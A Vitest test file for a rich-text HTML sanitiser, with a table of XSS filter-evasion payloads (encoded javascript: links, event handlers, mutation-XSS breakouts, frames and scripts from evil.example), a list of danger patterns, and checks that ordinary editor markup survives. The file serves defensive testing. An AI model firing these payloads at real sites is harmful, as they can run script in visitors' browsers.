import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from '../../server/lib/html-sanitizer';

/** Known vectors (OWASP XSS filter evasion cheat sheet and mutation-XSS write-ups). */
const PAYLOADS: Record<string, string> = {
  'script tag': '<script>alert(1)</script>',
  'script with odd casing and attributes': '<ScRiPt SRC=//evil.example/x.js></sCrIpT>',
  'img onerror': '<img src=x onerror=alert(1)>',
  'img onerror without quotes or spaces': '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  'svg onload': '<svg onload=alert(1)>',
  'svg with nested script': '<svg><script>alert(1)</script></svg>',
  'body onload': '<body onload=alert(1)>',
  'details ontoggle': '<details open ontoggle=alert(1)>',
  'event handler on an allowed tag': '<p onclick="alert(1)" onmouseover="alert(2)">x</p>',
  'javascript: href': '<a href="javascript:alert(1)">x</a>',
  'javascript: href with upper case': '<a href="JaVaScRiPt:alert(1)">x</a>',
  'javascript: href with entities':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  'javascript: href with hex entities without semicolons':
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  'javascript: href with embedded tab': '<a href="jav\tascript:alert(1);">x</a>',
  'javascript: href with encoded newline': '<a href="jav&#x0A;ascript:alert(1);">x</a>',
  'javascript: href with leading spaces and control characters': '<a href=" &#14;  javascript:alert(1)">x</a>',
  'vbscript: href': '<a href="vbscript:msgbox(1)">x</a>',
  'data: href': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'data: image': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'javascript: image': '<img src="javascript:alert(1)">',
  'protocol-relative script host': '<img src="//evil.example/x.png">',
  iframe: '<iframe src="https://evil.example/"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'object and embed': '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  'form action': '<form action="javascript:alert(1)"><button>x</button></form>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'base href': '<base href="javascript:alert(1)//">',
  'link stylesheet': '<link rel="stylesheet" href="javascript:alert(1)">',
  'style tag': '<style>@import "javascript:alert(1)";body{background:url("javascript:alert(1)")}</style>',
  'style attribute with expression': '<p style="width: expression(alert(1))">x</p>',
  'style attribute with url': '<p style="background-image: url(javascript:alert(1))">x</p>',
  'style attribute overlay': '<span style="position:fixed;top:0;left:0;width:100%;height:100%">x</span>',
  'style attribute colour smuggling': '<span style="color: red; behavior: url(x.htc)">x</span>',
  'math mutation':
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'math xlink': '<math><mi xlink:href="data:x,<script>alert(4)</script>">x</mi></math>',
  'svg foreignObject': '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'template content': '<template><img src=x onerror=alert(1)></template>',
  'textarea breakout': '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  'comment breakout': '<!--<img src="--><img src=x onerror=alert(1)//">',
  'cdata breakout': '<![CDATA[<]]><img src=x onerror=alert(1)>',
  'attribute breakout in title': '<a title="x" onmouseover="alert(1)" href="https://ok.example">x</a>',
  srcset: '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">',
  'formaction button': '<button formaction="javascript:alert(1)">x</button>',
  'xml namespace script': '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
};

/** Anything that would run script, load a frame, or style the page from the stored text. */
const DANGER = [
  /<script/i,
  /<iframe/i,
  /<svg/i,
  /<math/i,
  /<style/i,
  /<object/i,
  /<embed/i,
  /<form/i,
  /<meta/i,
  /<base/i,
  /<link/i,
  /<template/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:/i,
  /expression\(/i,
  /url\(/i,
  /position/i,
  /srcset/i,
  /formaction/i,
];

describe('the rich text sanitiser', () => {
  for (const [name, payload] of Object.entries(PAYLOADS)) {
    it(`neutralises ${name}`, () => {
      const clean = sanitizeHtml(payload);
      for (const pattern of DANGER) expect(clean, `${pattern} in ${clean}`).not.toMatch(pattern);
      // Sanitising is stable: what it answers passes through unchanged a second time.
      expect(sanitizeHtml(clean)).toBe(clean);
    });
  }

  it('keeps what the editor writes', () => {
    const html =
      '<h2 style="text-align: center">标题</h2><p>正文<strong>加粗</strong><em>斜体</em><u>下划线</u><s>删除</s></p>' +
      '<ul><li><p>一</p></li></ul><ol><li><p>二</p></li></ol><blockquote><p>引用</p></blockquote><hr>' +
      '<p><a href="https://www.12371.cn/" target="_blank">链接</a></p><p><img src="https://ok.example/a.png" alt="图"></p>';
    const clean = sanitizeHtml(html);
    expect(clean).toContain('<h2 style="text-align:center">标题</h2>');
    expect(clean).toContain('<strong>加粗</strong><em>斜体</em><u>下划线</u><s>删除</s>');
    expect(clean).toContain('<a href="https://www.12371.cn/" target="_blank" rel="noopener noreferrer">链接</a>');
    expect(clean).toContain('<img src="https://ok.example/a.png" alt="图" />');
    expect(clean).toContain('<blockquote><p>引用</p></blockquote>');
  });

  it('keeps the text of a discarded tag but not its markup', () => {
    expect(sanitizeHtml('<div><font color="red">通知</font></div>')).toBe('通知');
    expect(sanitizeHtml('<p onclick="alert(1)">通知</p>')).toBe('<p>通知</p>');
  });

  it('keeps relative links and plain colours, and drops a target other than a new tab', () => {
    expect(sanitizeHtml('<a href="/article?id=3" target="_top">x</a>')).toBe('<a href="/article?id=3">x</a>');
    expect(sanitizeHtml('<span style="color:#d32d2e">红</span>')).toBe('<span style="color:#d32d2e">红</span>');
    expect(sanitizeHtml('<a href="mailto:dj@example.com">邮件</a>')).toBe('<a href="mailto:dj@example.com">邮件</a>');
  });

  it('refuses image sizes that are not plain numbers', () => {
    expect(sanitizeHtml('<img src="https://ok.example/a.png" width="100" height="1;x">')).toBe(
      '<img src="https://ok.example/a.png" width="100" />',
    );
  });
});
